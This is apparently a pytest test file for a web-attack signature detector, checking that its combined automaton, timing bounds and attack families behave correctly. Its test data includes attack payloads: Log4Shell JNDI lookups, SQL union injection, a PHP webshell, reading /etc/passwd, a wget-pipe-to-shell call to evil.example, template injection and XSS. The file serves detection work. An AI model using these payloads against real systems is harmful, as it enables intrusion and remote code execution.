"""One automaton of all patterns finds what each pattern finds by itself."""

import random
import string
import time
from urllib.parse import quote_plus

import pytest
import re2

from pipelines.detect.web.match import hits_in, line_pattern, open_pattern, signatures_of
from pipelines.detect.web.signatures import STRONG, Place, example_uri, load_families
from pipelines.detect.web.units import units

# Two to three as measured; 15 and more where the automata count.
_MOST_TIMES = 6


@pytest.mark.further
def test_the_automaton_agrees_with_each_pattern_by_itself() -> None:
    """RE2 answers "nothing" when a set runs out of room; after many texts it still has room.

    The texts are attacks cut to pieces and joined at random, which reach many states.
    """
    rng = random.Random(20261125)  # noqa: S311 - the same texts on every run
    examples = [
        query
        for family in load_families().values()
        for one in family.signatures
        if (query := example_uri(one.example, family.targets_of(one)).partition("?")[2])
    ]
    for _ in range(20_000):
        hits_in(Place.QUERY, "".join(rng.choices(examples, k=3)) + str(rng.random()))
    patterns = [
        (family, one.id, re2.compile(line_pattern(one.pattern)))
        for family, one in signatures_of(Place.QUERY)
    ]
    for _ in range(300):
        one, other = rng.choices(examples, k=2)
        text = one[: rng.randint(1, len(one))] + other[rng.randrange(len(other)) :]
        seen = list(units(Place.QUERY, text))
        alone = {
            (family, name)
            for family, name, pattern in patterns
            if any(pattern.search(unit.text) for unit in seen)
        }
        assert {(hit.family, hit.signature) for hit in hits_in(Place.QUERY, text)} == alone


def test_what_is_remembered_is_nobodys_to_change() -> None:
    """A short text that comes again, on another day, shows what it showed at first."""
    text = "id=1%27+union+select+password+from+users--"
    found = hits_in(Place.QUERY, text)
    assert {hit.family for hit in found} == {"sql-injection"}
    found.clear()
    again = hits_in(Place.QUERY, text)
    assert "sql-injection" in {hit.family for hit in again}
    assert set(again) <= set(hits_in(Place.QUERY, f"{text}&note={'sleep+well+' * 40}"))


def test_a_blank_of_a_pattern_does_not_reach_into_the_next_view() -> None:
    """Within classes and outside of them; an escaped backslash before an s is none."""
    assert line_pattern(r"a\s+[\s(]\\s[[]\s") == (r"(?m)a[\t\f\r ]+[\t\f\r (]\\s[[][\t\f\r ]")
    assert not hits_in(Place.QUERY, "x=drop+table")
    assert hits_in(Place.QUERY, "x=drop+table+a")


def test_an_open_pattern_has_no_long_counts() -> None:
    """Short counts stay, and so do braces that are escaped, in a class or no count of a range."""
    assert open_pattern(r"'[^\n]{0,40}x[{0,40}]{2,30}\{0,40}a{1,3}b{20}") == (
        r"'[^\n]*x[{0,40}]+\{0,40}a{1,3}b{20}"
    )


def test_a_signature_keeps_its_counts() -> None:
    """What only the open pattern matches is no hit: 40 signs at most may stand between."""
    assert "value-breakout" in _signatures(f"x='{'-' * 30}valueof=1")
    assert "value-breakout" not in _signatures(f"x='{'-' * 60}valueof=1")


@pytest.mark.parametrize(
    "signs",
    [
        pytest.param("ab'<>(){}=&%/.-+*;:|$", id="of many parameters"),
        pytest.param("ab'<>(){}%/.-+*;:|$", id="of one parameter"),
        pytest.param("'{$/<", id="that counts are kept of"),
        pytest.param(string.ascii_letters + string.digits + string.punctuation, id="printable"),
    ],
)
def test_random_signs_cost_little_more_than_letters(signs: str) -> None:
    """Whoever sends random signs cannot make the night many times as long as letters would.

    All readings of 8,000 signs are together as long as those of 40,000 letters. Each random text
    is new, since the automata have the states of those that they have seen.
    """
    rng = random.Random(20261127)  # noqa: S311 - the same texts on every run

    def work(alphabet: str, length: int) -> float:
        text = f"p={''.join(rng.choices(alphabet, k=length))}"
        started = time.process_time()
        hits_in(Place.QUERY, text)
        return time.process_time() - started

    letters = min(work("abcdefgh", 40_000) for _ in range(12))
    assert min(work(signs, 8_000) for _ in range(12)) < _MOST_TIMES * letters


@pytest.mark.parametrize(
    ("path", "is_shown"),
    [
        ("/.env", True),
        ("/shop/.git/config", True),
        ("/docs/.env.html", False),
        ("/team/app/-/raw/main/.env", False),
        ("/team/app/src/branch/main/.gitignore", False),
        # None of a repository's own browser: no project, a step back, another ending.
        ("/-/raw/.env", True),
        ("/team/-/raw/main/%2e%2e/.env", True),
        ("/.env.html.bak", True),
    ],
)
def test_what_a_family_is_not_shown_by(path: str, is_shown: bool) -> None:
    """A family's `unless` clears pages about a file, and never a way out of them."""
    families = {hit.family for hit in hits_in(Place.PATH, path)}
    assert ("sensitive-file-probing" in families) == is_shown


@pytest.mark.parametrize(
    ("query", "is_shown"),
    [
        ("cmd=edit&page=FrontPage", False),
        ("cmd=read&page=%A5%DA%A1%BC%A5%B8", False),
        ("cmd=dir", True),
        ("cmd=edit;id", True),
        ("cmd=edit/*&cmd=x", True),
    ],
)
def test_a_verb_of_an_application_is_no_command(query: str, is_shown: bool) -> None:
    """Wikis and boards have `cmd=edit`; with anything behind it, it is what a shell is sent."""
    families = {hit.family for hit in hits_in(Place.QUERY, query)}
    assert ("webshell-access" in families) == is_shown


@pytest.mark.parametrize(
    ("text", "is_attack"),
    [
        ("${jndi:ldap://evil.example/a}", True),
        ("${${::-j}ndi:rmi://evil.example/a}", True),
        ("1' union select password,email from users--", True),
        ("-1 union all select 1,2,@@version", True),
        ("<?php system($_GET[1]);?>", True),
        (";cat /etc/passwd", True),
        (";wget http://evil.example/x -O-|sh", True),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", True),
        ("http://169.254.169.254/latest/meta-data/", True),
        ("<script>alert(document.cookie)</script>", True),
        ("${jndi:ldap} works", False),
        ("union select a,b from users works", False),
        ("' or '1'='1 works in SQL", False),
        ("<?php system('ls'); ?> works", False),
        ("<?php phpinfo(); ?> works", False),
        ("cat /etc/passwd; works", False),
        ("wget http://www.example/x works", False),
        ("{{ item.__class__ }} renders", False),
        ("{{ config.items() }} renders", False),
        ("169.254.169.254 works", False),
        ("<script> tag works", False),
        ("alert(1) works", False),
    ],
)
@pytest.mark.parametrize("place", [Place.QUERY, Place.REFERRER])
def test_a_word_of_a_question_hides_no_attack(place: Place, text: str, is_attack: bool) -> None:
    """Forms that people ask about are hints; what only an attack holds keeps its weight."""
    page = "" if place is Place.QUERY else "https://www.example/search?"
    weights = [hit.weight for hit in hits_in(place, f"{page}q={quote_plus(f'how {text}')}")]
    assert (max(weights, default=0) >= STRONG) == is_attack


def _signatures(query: str) -> set[str]:
    return {hit.signature for hit in hits_in(Place.QUERY, query)}
